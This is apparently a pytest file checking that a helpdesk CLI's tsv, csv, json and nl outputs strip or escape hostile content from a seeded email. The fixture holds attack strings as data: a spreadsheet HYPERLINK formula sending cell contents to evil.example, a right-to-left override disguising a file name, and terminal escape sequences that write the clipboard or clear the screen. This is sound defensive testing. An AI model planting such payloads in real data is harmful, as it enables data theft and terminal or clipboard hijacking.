"""Every command's machine output keeps a stranger's controls and overrides off the terminal."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime

import pytest

from tests.cli.conftest import CliEnv

SUBJECT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") \u202eexe.txt \x9b2J"
NAME = "Mallory \u2066\u2067\u2068\u2069 \x1b]52;c;ZXZpbA==\x07"
TEXT = "számla \u202ethe end\x9d52;c;ZXZpbA==\x07 \x00\x1b[2J"
#: Raw controls (but the line ends of the format), C1 and bidi controls.
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile(cli_env: CliEnv) -> tuple[CliEnv, int]:
    async def seed(desk):
        from adapters.base import Address, Inbound
        from omnidesk.inbound.ingest import ingest_records
        from omnidesk.store.channels import get_channel

        channel = await get_channel(desk.db, "support")
        record = Inbound(external_id="<evil@evil.example>", sender=Address("email", "m@evil.example", NAME),
                         sent_at=datetime(2026, 11, 20, 9, 0, tzinfo=UTC), text=TEXT, subject=SUBJECT,
                         recipients=(Address("email", "support@acme.test"),))
        return (await ingest_records(desk, channel, [record])).conversation_ids[0]

    return cli_env, cli_env.run(seed)


COMMANDS = [("list",), ("search", "számla"), ("customer", "list"), ("show", "{cid}")]


@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(c) for c in COMMANDS])
@pytest.mark.parametrize("fmt", ["tsv", "csv", "json", "nl"])
def test_no_format_passes_controls_or_overrides(hostile: tuple[CliEnv, int], command, fmt) -> None:
    env, cid = hostile
    result = env.invoke(*(a.format(cid=cid) for a in command), "--format", fmt)
    assert result.exit_code == 0, result.stderr
    out = result.stdout.replace("\r\n", "\n") if fmt == "csv" else result.stdout
    assert out.strip() and not RAW.search(out), out
    if fmt == "csv" and command[0] in ("list", "show"):
        assert "'=HYPERLINK(" in out  # a formula is text to the spreadsheet
    if fmt in ("json", "nl"):
        # Escaped, not dropped: the stranger's text comes back whole.
        text = json.dumps([json.loads(line) for line in out.splitlines()] if fmt == "nl" else json.loads(out),
                          ensure_ascii=False)
        assert "\u202e" in text or "\u2066" in text


def test_show_json_keeps_the_text_exactly(hostile: tuple[CliEnv, int]) -> None:
    env, cid = hostile
    result = env.invoke("show", str(cid), "--json")
    assert "\\u009d52;c;" in result.stdout and "\x9d" not in result.stdout
    conv = json.loads(result.stdout)
    assert conv["subject"] == SUBJECT and conv["messages"][0]["text"] == TEXT
